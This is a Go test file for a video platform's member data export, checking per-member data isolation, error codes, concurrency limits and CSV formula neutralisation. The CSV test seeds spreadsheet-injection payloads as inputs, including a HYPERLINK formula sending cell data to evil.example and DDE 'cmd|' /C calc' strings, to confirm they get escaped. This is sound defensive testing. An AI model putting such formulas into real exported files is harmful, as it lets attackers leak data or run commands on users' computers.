package export_test

import (
	"encoding/json"
	"io"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/playhead/playhead/export"
)

// seedTwoMembers gives members 1 and 2 a bit of everything the export reads: history (one
// hidden item, one in a collection with progress), uploads, an unfinished upload, an import,
// a webhook endpoint, an event and a paused history for member 2.
func (b *bundle) seedTwoMembers(t *testing.T) {
	t.Helper()
	b.exec(t, `INSERT INTO members (id) VALUES (1), (2)`)
	for _, m := range []int64{1, 2} {
		b.exec(t, `INSERT INTO media (owner_id, title, status, visibility, duration_ms)
			VALUES ($1::bigint, 'own video of ' || $1::bigint::text, 'READY', 'PUBLIC', 100000), ($1::bigint, 'second of ' || $1::bigint::text, 'PROCESSING', 'PRIVATE', NULL)`, m)
	}
	for _, m := range []int64{1, 2} {
		b.exec(t, `INSERT INTO playback (member_id, media_id, position_ms, event_time, updated_at, hidden, collection, finished, watched)
			SELECT $1::bigint, id, 50000, statement_timestamp(), statement_timestamp(), owner_id <> $1::bigint, 'course of ' || $1::bigint::text, owner_id = $1::bigint,
			       playhead_watch_range(10, 19) | playhead_watch_range(40, 40)
			FROM media WHERE status = 'READY'`, m)
		b.exec(t, `INSERT INTO playback_last_finished (member_id, collection, media_id, event_time)
			SELECT $1::bigint, 'course of ' || $1::bigint::text, id, statement_timestamp() FROM media WHERE owner_id = $1::bigint AND status = 'READY'`, m)
		b.exec(t, `INSERT INTO collection_completions (member_id, collection, completed_at)
			VALUES ($1::bigint, 'course of ' || $1::bigint::text, statement_timestamp())`, m)
		b.exec(t, `INSERT INTO uploads (id, owner_id, upload_length, metadata, title, visibility, source_key, parts_id, expires_at)
			VALUES (md5($1::bigint::text), $1::bigint, 1000, '{"filename": "clip.mp4"}', 'unfinished of ' || $1::bigint::text, 'PUBLIC', 'uploads/x', 'p',
			        statement_timestamp() + interval '1 day')`, m)
		b.exec(t, `INSERT INTO captions (media_id, language, label, folder, cues, created_by)
			SELECT id, 'en', 'English of ' || $1::bigint::text, 'hls/' || id || '/captions-x', 3, $1::bigint
			FROM media WHERE owner_id = $1::bigint AND status = 'READY'`, m)
		b.exec(t, `INSERT INTO imports (created_by, filename, total_rows, accepted, rejected) VALUES ($1::bigint, 'sheet of ' || $1::bigint::text, 3, 2, 1)`, m)
		b.exec(t, `INSERT INTO webhook_endpoints (url, events, secret, created_by)
			VALUES ('https://example.com/hook/' || $1::bigint::text, '{media.ready}', '\xdeadbeef', $1::bigint)`, m)
		b.exec(t, `INSERT INTO notification_outbox (member_id, media_id, kind, payload)
			SELECT $1::bigint, id, 'media.ready', jsonb_build_object('title', title) FROM media WHERE owner_id = $1::bigint AND status = 'READY'`, m)
	}
	b.exec(t, `INSERT INTO history_paused (member_id, paused_at) VALUES (2, statement_timestamp())`)
}

// TestExport_OnlyTheCallersData: each member's export holds every kind of their data and
// nothing of the other member's, the webhook secret never, and says it is a private
// attachment.
func TestExport_OnlyTheCallersData(t *testing.T) {
	b := setup(t)
	b.seedTwoMembers(t)
	for _, member := range []int64{1, 2} {
		resp := b.get(t, member, "")
		raw, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err != nil || resp.StatusCode != 200 {
			t.Fatalf("member %d: %d %v %s", member, resp.StatusCode, err, raw)
		}
		if got := resp.Header.Get("Cache-Control"); got != "private, no-store" {
			t.Errorf("Cache-Control %q", got)
		}
		if got := resp.Header.Get("Content-Disposition"); !strings.HasPrefix(got, `attachment; filename="playhead-export-`) {
			t.Errorf("Content-Disposition %q", got)
		}
		if err := memberExportSchema(t).VisitJSON(mustDecode(t, raw)); err != nil {
			t.Errorf("member %d: %v", member, err)
		}
		var doc struct {
			MemberID int64 `json:"member_id"`
			Settings struct {
				HistoryPaused bool `json:"history_paused"`
			} `json:"settings"`
			History []struct {
				Hidden  bool           `json:"hidden"`
				Watched []export.Range `json:"watched_ranges"`
			} `json:"history"`
		}
		if err := json.Unmarshal(raw, &doc); err != nil {
			t.Fatal(err)
		}
		var sections map[string]json.RawMessage
		if err := json.Unmarshal(raw, &sections); err != nil {
			t.Fatal(err)
		}
		for _, name := range []string{"collection_progress", "course_completions", "uploads", "unfinished_uploads", "captions", "imports", "webhook_endpoints", "events"} {
			var items []map[string]any
			if err := json.Unmarshal(sections[name], &items); err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			want := 1
			if name == "uploads" {
				want = 2
			}
			if len(items) != want {
				t.Errorf("member %d: %s has %d items, want %d: %s", member, name, len(items), want, sections[name])
			}
		}
		if doc.MemberID != member || doc.Settings.HistoryPaused != (member == 2) || len(doc.History) != 2 {
			t.Fatalf("member %d: member_id %d, paused %v, %d history items", member, doc.MemberID, doc.Settings.HistoryPaused, len(doc.History))
		}
		hidden := 0
		for _, it := range doc.History {
			if it.Hidden {
				hidden++
			}
			// Buckets 10-19 and 40 of 100 s: 10-20 s and 40-41 s.
			if want := []export.Range{{StartMS: 10_000, EndMS: 20_000}, {StartMS: 40_000, EndMS: 41_000}}; !slices.Equal(it.Watched, want) {
				t.Errorf("member %d: watched ranges %v, want %v", member, it.Watched, want)
			}
		}
		if hidden != 1 {
			t.Errorf("member %d: %d hidden items, want 1 (hidden ones are exported too)", member, hidden)
		}
		// Both watched each other's READY video (its title is in both histories); nothing
		// else of the other member's may be here.
		other := 3 - member
		for _, mark := range []string{"course of ", "second of ", "unfinished of ", "English of ", "sheet of ", "hook/"} {
			if mark += strconv.FormatInt(other, 10); strings.Contains(string(raw), mark) {
				t.Errorf("member %d's export holds the other member's data (%q): %s", member, mark, raw)
			}
		}
		if strings.Contains(string(raw), "deadbeef") || strings.Contains(string(raw), "secret") {
			t.Errorf("member %d's export holds the webhook secret", member)
		}
	}
}

// TestExport_RefusesWhatItCannotServe: no token is 401, a format other than json or csv is a
// 422 JSON error.
func TestExport_RefusesWhatItCannotServe(t *testing.T) {
	b := setup(t)
	for _, c := range []struct {
		member int64
		query  string
		want   int
	}{
		{0, "", 401},
		{1, "?format=xml", 422},
		{1, "?format=CSV%00", 422},
	} {
		resp := b.get(t, c.member, c.query)
		raw, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		var e struct {
			Error string `json:"error"`
		}
		if resp.StatusCode != c.want || json.Unmarshal(raw, &e) != nil || e.Error == "" {
			t.Errorf("%q as %d: %d %s, want %d with a JSON error", c.query, c.member, resp.StatusCode, raw, c.want)
		}
	}
}

// TestExport_CSVNeutralisesFormulas: titles and collection names that a spreadsheet would
// run as formulas, leading spaces before the formula included, come out of the CSV with a
// single quote in front (OWASP's CSV injection advice), read back by Python's csv module; the
// rest of the text is unchanged.
func TestExport_CSVNeutralisesFormulas(t *testing.T) {
	b := setup(t)
	b.exec(t, `INSERT INTO members (id) VALUES (2)`)
	titles := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
		"\tTabbed", "\rReturned", `plain, "quoted" title`, ` =1+1`, "\u00a0 @SUM(1+1)", "  -2", "a = b"}
	for i, title := range titles {
		b.exec(t, `WITH m AS (INSERT INTO media (owner_id, title, status, visibility, duration_ms)
			VALUES (2, $1, 'READY', 'PUBLIC', 60000) RETURNING id)
			INSERT INTO playback (member_id, media_id, position_ms, event_time, updated_at, collection)
			SELECT 1, id, 1000, statement_timestamp() - $2 * interval '1 s', statement_timestamp(), '=cmd|calc' FROM m`, title, i)
	}
	path := b.download(t, 1, "?format=csv")
	out, err := exec.Command("python3", "-c", `
import csv, json, sys
with open(sys.argv[1], newline='', encoding='utf-8') as f:
    print(json.dumps([[r[0], r[6]] for r in list(csv.reader(f))[1:]]))
`, path).CombinedOutput()
	if err != nil {
		t.Fatalf("python3 csv: %v\n%s", err, out)
	}
	var rows [][2]string
	if err := json.Unmarshal(out, &rows); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if len(rows) != len(titles) {
		t.Fatalf("%d rows, want %d", len(rows), len(titles))
	}
	for i, title := range titles { // in media id order: the order inserted
		want := title
		if strings.ContainsRune("=+-@\t\r", rune(strings.TrimLeft(title, " \u00a0")[0])) {
			want = "'" + title
		}
		if rows[i][0] != want || rows[i][1] != "'=cmd|calc" {
			t.Errorf("row %d reads %q, %q; want %q, %q", i, rows[i][0], rows[i][1], want, "'=cmd|calc")
		}
	}
}

// TestExport_OneAtATimePerMember: a member's second export while the first is streaming is
// 429 with Retry-After; another member's is served.
func TestExport_OneAtATimePerMember(t *testing.T) {
	b := setup(t)
	b.seedHugeHistory(t)
	first := b.get(t, 1, "") // 30 MB: it is still streaming while the client reads nothing
	defer first.Body.Close()
	second := b.get(t, 1, "?format=csv")
	io.Copy(io.Discard, second.Body)
	second.Body.Close()
	if second.StatusCode != 429 || second.Header.Get("Retry-After") == "" {
		t.Errorf("a second export of the same member: %d, Retry-After %q; want 429 with it", second.StatusCode, second.Header.Get("Retry-After"))
	}
	other := b.get(t, 2, "")
	io.Copy(io.Discard, other.Body)
	other.Body.Close()
	if other.StatusCode != 200 {
		t.Errorf("another member's export meanwhile: %d", other.StatusCode)
	}
	if _, err := io.Copy(io.Discard, first.Body); err != nil {
		t.Fatal(err)
	}
	// The place is free again once the first export ended (its stream released it).
	again := b.get(t, 1, "?format=csv")
	io.Copy(io.Discard, again.Body)
	again.Body.Close()
	if again.StatusCode != 200 {
		t.Errorf("an export after the first ended: %d", again.StatusCode)
	}
}

func mustDecode(t *testing.T, raw []byte) any {
	t.Helper()
	var v any
	if err := json.Unmarshal(raw, &v); err != nil {
		t.Fatal(err)
	}
	return v
}
